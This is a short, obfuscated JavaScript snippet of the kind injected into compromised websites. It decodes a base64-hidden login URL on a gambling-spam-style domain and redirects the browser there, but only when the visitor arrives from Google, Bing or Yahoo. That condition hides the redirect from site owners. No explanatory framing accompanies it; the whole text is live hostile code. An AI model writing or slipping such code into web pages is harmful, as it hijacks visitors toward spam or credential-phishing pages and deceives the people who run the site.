var _0x3f = ['aHR0cHM6Ly9ha3VuLXByby10b3RvLmV4YW1wbGUvbG9naW4=', 'referrer'];
(function () {
  var ref = document[_0x3f[1]];
  if (/google|bing|yahoo/i.test(ref)) {
    document.location = atob(_0x3f[0]);
  }
})();
